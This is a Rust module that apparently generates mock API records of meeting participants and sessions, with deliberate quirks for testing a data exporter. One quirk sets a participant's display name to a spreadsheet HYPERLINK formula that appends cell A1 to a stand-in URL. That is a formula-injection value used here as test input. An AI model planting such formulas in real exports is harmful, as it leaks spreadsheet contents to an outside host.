//! A participant's record: the same bytes from the details, list and peer-report routes.
//!
//! In: a participant of the world. Out: its JSON, and the figures that an export of it must show.
//! Guarantees: fields as the vendor's page has them, in its order; what [`Quirk`] changes is changed
//! in both the JSON and the [`Expected`] figures.
//! Not here: envelopes and paging (`handlers.rs`), call statistics (`statistics.rs`).

use super::json::{Json, minutes_text, push_time, text};
use super::messy::{Quirk, with_exponent, with_more_digits};
use super::moving::Moment;
use super::participant::{Event, EventKind, Participant};
use super::world::{Session, World};

/// What the API says about a participant's minutes, digit for digit.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Expected {
    /// The digits of `duration`; none where it is null or absent.
    pub duration: Option<String>,
    /// The digits of each event's `minutes_consumed`, in the API's order; no list where none is sent.
    pub event_minutes: Option<Vec<Option<String>>>,
}

/// Under which name a record carries its preset.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum PresetKey {
    /// List and details.
    PresetName,
    /// The newest peer report.
    Role,
}

impl World {
    /// The figures that an export of a participant, asked for with its peer events, must show.
    #[must_use]
    pub fn expected(&self, participant: u64) -> Expected {
        Expected::of(&self.participant(participant))
    }
}

impl Expected {
    /// The figures that an export of a participant must show, at the moment that it is of.
    #[must_use]
    pub fn of(participant: &Participant) -> Self {
        let quirk = participant.quirk;
        let duration = !matches!(quirk, Some(Quirk::Nulls | Quirk::Absent));
        let minutes =
            |event: Event| (quirk != Some(Quirk::MissingEventFields)).then(|| digits(event.lasted_ms, quirk));
        Self {
            duration: duration.then(|| digits(participant.duration_ms(), quirk)),
            event_minutes: (!matches!(quirk, Some(Quirk::NoEventList | Quirk::EventsByNumber)))
                .then(|| sent_events(participant).map(minutes).collect()),
        }
    }
}

/// The events that are sent, in the order in which they are.
fn sent_events(participant: &Participant) -> impl Iterator<Item = Event> + '_ {
    let quirk = participant.quirk;
    participant.events().filter(move |event| match quirk {
        Some(Quirk::NoCreatedEvent) => event.kind != EventKind::Created,
        Some(Quirk::EmptyEventList) => false,
        _ => true,
    })
}

/// A number of minutes in the digits that are sent.
fn digits(duration_ms: u64, quirk: Option<Quirk>) -> String {
    let plain = minutes_text(duration_ms);
    match quirk {
        Some(Quirk::Exponent) => with_exponent(&plain),
        Some(Quirk::TrailingZeros) => with_more_digits(&plain, "000"),
        Some(Quirk::ManyDigits) => with_more_digits(&plain, "99997123456789012345"),
        _ => plain,
    }
}

fn write_minutes(json: &mut Json, duration_ms: u64, quirk: Option<Quirk>) {
    match quirk {
        None => json.minutes(duration_ms),
        Some(Quirk::NumbersAsStrings) => json.string(&digits(duration_ms, quirk)),
        Some(_) => json.raw(&digits(duration_ms, quirk)),
    }
}

fn write_time(json: &mut Json, epoch_ms: u64, quirk: Option<Quirk>) {
    if quirk == Some(Quirk::OtherTimeForm) {
        // 05:30 ahead of UTC, and digits that microseconds cannot hold.
        let mut local = Vec::new();
        push_time(&mut local, epoch_ms + 330 * 60_000);
        local.pop();
        json.string(&format!("{}123456+05:30", text(local)));
    } else {
        json.time(epoch_ms);
    }
}

/// Writes the fields of a record into an open object; `peer_events` where asked for.
pub(super) fn write_fields(
    json: &mut Json,
    world: &World,
    participant: &Participant,
    peer_events: bool,
    preset_key: PresetKey,
) {
    let quirk = participant.quirk;
    json.set_pretty(quirk == Some(Quirk::Pretty));
    json.key("id").uuid(participant.uuid());
    if quirk == Some(Quirk::UnknownFields) {
        json.key("x_edge").raw(r#"{"colo":"AMS","hops":[1,2.50,{"deep":[null,true]}],"":"empty name"}"#);
        json.key("hidden").bool(true);
    }
    let known = !matches!(quirk, Some(Quirk::Nulls | Quirk::Absent));
    if known {
        write_optional_fields(json, participant);
    } else if quirk == Some(Quirk::Nulls) {
        for name in
            ["created_at", "custom_participant_id", "display_name", "duration", "updated_at", "user_id"]
        {
            json.key(name).null();
        }
    }
    write_time(json.key("joined_at"), participant.joined_ms, quirk);
    if participant.left {
        write_time(json.key("left_at"), participant.until_ms, quirk);
    } else if quirk == Some(Quirk::Nulls) {
        json.key("left_at").null();
    }
    if peer_events && quirk != Some(Quirk::NoEventList) {
        json.key("peer_events");
        let event = |json: &mut Json, event| json.object(|json| write_event(json, world, participant, event));
        if quirk == Some(Quirk::EventsByNumber) {
            json.object(|json| {
                sent_events(participant).for_each(|sent| event(json.key(&sent.number.to_string()), sent));
            });
        } else {
            json.array(|json| sent_events(participant).for_each(|sent| event(json, sent)));
        }
    }
    if known {
        let role = preset_key == PresetKey::Role || quirk == Some(Quirk::RoleForPreset);
        json.key(if role { "role" } else { "preset_name" }).string(participant.preset);
        json.key("updated_at");
        if quirk == Some(Quirk::StrayQuote) {
            json.raw(r#""2026-10-01T10:50:36.846Z\"""#);
        } else {
            write_time(json, participant.updated_ms, quirk);
        }
        json.key("user_id").uuid(participant.user_id);
    }
    json.set_pretty(false);
}

fn write_optional_fields(json: &mut Json, participant: &Participant) {
    let quirk = participant.quirk;
    write_time(json.key("created_at"), participant.joined_ms, quirk);
    json.key("custom_participant_id");
    if quirk == Some(Quirk::EmailCustomId) {
        json.string(&format!("guest+{}@example.com", participant.person));
    } else {
        json.quoted(|out| {
            out.extend_from_slice(b"user-");
            super::json::push_number(out, 100_000 + participant.person);
        });
    }
    if quirk == Some(Quirk::DuplicateKeys) {
        json.key("display_name").string("not the last one");
        json.key("duration").raw("999999.5");
    }
    write_display_name(json.key("display_name"), participant);
    write_minutes(json.key("duration"), participant.duration_ms(), quirk);
}

fn write_display_name(json: &mut Json, participant: &Participant) {
    let (first, last) = (participant.first_name(), participant.last_name());
    match participant.quirk {
        Some(Quirk::LoneSurrogate) => json.raw(r#""half \ud83d a smile""#),
        Some(Quirk::FormulaName) => json.string(r#"=HYPERLINK("http://example.com/?"&A1;"pay")"#),
        Some(Quirk::NewlineName) => json.string("two\r\nlines, \"quotes\"\tand a tab;\u{0}\u{1f}"),
        Some(Quirk::EmojiName) => json.string("\u{1f469}\u{1f3fd}\u{200d}\u{1f680} Ada \u{1f1eb}\u{1f1ee}"),
        Some(Quirk::RightToLeftName) => json.string("\u{202e}שרה לוי\u{202c} \u{200f}(مضيفة)"),
        _ => json.string_of(&[first, " ", last]),
    }
}

fn write_event(json: &mut Json, world: &World, participant: &Participant, event: Event) {
    let quirk = participant.quirk;
    let complete = quirk != Some(Quirk::MissingEventFields);
    let id_of = match quirk {
        Some(Quirk::RepeatedEventIds) => participant.index.saturating_sub(1),
        _ => participant.index,
    };
    let (name, shift_ms) = match event.kind {
        EventKind::Created if quirk == Some(Quirk::UnknownEnums) => ("PEER_TELEPORTED", 0),
        EventKind::Created => ("PEER_CREATED", 0),
        EventKind::Joining => ("PEER_JOINING", 42_000),
        EventKind::Leaving => ("PEER_LEAVING", -6_000),
    };
    let shift_ms = if quirk == Some(Quirk::EventsInside) { shift_ms } else { 0 };
    let at_ms = event.at_ms.saturating_add_signed(shift_ms);
    json.key("id").uuid(world.event_id(id_of, event.number));
    write_time(json.key("created_at"), at_ms, quirk);
    json.key("event_name").string(name);
    if complete {
        write_minutes(json.key("minutes_consumed"), event.lasted_ms, quirk);
        json.key("participant_id").uuid(participant.uuid());
    }
    json.key("peer_id").uuid(match quirk {
        Some(Quirk::OtherPeerId) => world.socket_id(participant.index, 0),
        _ => participant.uuid(),
    });
    if complete {
        json.key("preset_view_type");
        match quirk {
            Some(Quirk::NullViewType) => json.null(),
            Some(Quirk::UnknownEnums) => json.string("HOLOGRAM"),
            _ => json.string(participant.view.name()),
        }
        json.key("session_id").uuid(participant.session_uuid());
    }
    json.key("socket_session_id").uuid(world.socket_id(participant.index, event.number));
    if quirk == Some(Quirk::UnknownFields) {
        json.key("transport").raw(r#"{"kind":"quic","rtts":[12,14]}"#);
    }
    write_time(json.key("updated_at"), at_ms, quirk);
}

/// Writes the fields of a session's record into an open object.
pub(super) fn write_session_fields(json: &mut Json, moment: Moment<'_>, session: &Session, app: &str) {
    use super::messy::SessionQuirk as Q;
    let count = session.participants.end - session.participants.start;
    json.key("id").uuid(uuid::Uuid::from_bytes(session.id.to_bytes()));
    json.key("associated_id");
    if session.quirk == Some(Q::RoomName) {
        json.string("qwerty-uiopas");
    } else {
        json.uuid(moment.world().meeting_id(session.meeting));
    }
    json.key("meeting_display_name");
    if session.quirk == Some(Q::NullTitle) {
        json.null();
    } else {
        json.string(session.title());
    }
    let kind = if session.quirk == Some(Q::NewType) { "seance" } else { session.view.session_type() };
    json.key("type").string(kind);
    json.key("status").string(if session.live { "LIVE" } else { "ENDED" });
    let present = |index: &u64| session.live && !moment.participant_of(session, *index).left;
    let live_participants = session.participants.clone().filter(present).count();
    json.key("live_participants").number(u64::try_from(live_participants).unwrap_or(u64::MAX));
    json.key("max_concurrent_participants").number(count);
    json.key("minutes_consumed");
    let minutes_ms = moment.session_minutes_ms(session);
    if session.quirk == Some(Q::NumbersAsStrings) {
        json.string(&minutes_text(minutes_ms));
    } else {
        json.minutes(minutes_ms);
    }
    json.key("organization_id").string(app);
    json.key("started_at");
    if session.quirk == Some(Q::StrayQuote) {
        json.raw(r#""2026-10-01T10:50:36.846Z\"""#);
    } else {
        json.time(session.started_ms);
    }
    json.key("created_at");
    if moment.world().is_undated(session.index) {
        json.string("unknown");
    } else {
        json.time(session.created_ms);
    }
    json.key("updated_at").time(session.updated_ms);
    json.key("ended_at");
    if session.live {
        json.string("null");
    } else {
        json.time(session.ended_ms);
    }
    if session.quirk == Some(Q::UnknownFields) {
        json.key("meta").raw(r#"{"room":"blue","tags":["a","b"]}"#);
        json.key("region").string("weur");
    }
}
